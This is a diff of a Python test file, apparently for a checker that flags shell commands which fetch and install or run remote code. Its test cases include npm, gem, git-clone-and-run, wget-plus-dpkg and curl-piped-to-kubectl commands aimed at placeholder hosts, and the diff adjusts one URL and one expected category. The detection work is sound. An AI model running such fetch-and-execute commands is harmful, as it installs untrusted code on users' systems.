@@ -256,7 +256,7 @@ def test_download_behind_a_coprocess_case_in_a_substitution_or_long_function_is_
 @check_each(
     "text",
     [
-        "npm i -g https://e/x.tgz\n",
+        "npm i -g https://e/x\n",
         "sudo yarn add git+https://e/x.git\n",
         "npx https://e/x\n",
         "gem install https://e/x.gem\n",
@@ -1081,7 +1081,7 @@ def test_program_that_windows_runs_from_an_object_a_list_or_without_its_extensio
         ("git -C /tmp clone http://e.invalid/a/x.git; make -C /tmp/x install", "address"),
         ("git clone http://e.invalid/a/x.git; . x/run.sh", "address"),
         ("wget https://e.invalid/x.deb; sudo dpkg -i x.deb", "address"),
-        ("curl -O https://e.invalid/x.whl; pip install ./x.whl", "address"),
+        ("curl -O https://e.invalid/x.whl; pip install ./x.whl", "archive"),
         ("curl -s https://e.invalid/x.yaml | kubectl apply -f -", "address"),
         ("curl -s https://e.invalid/x | docker load", "address"),
     ],
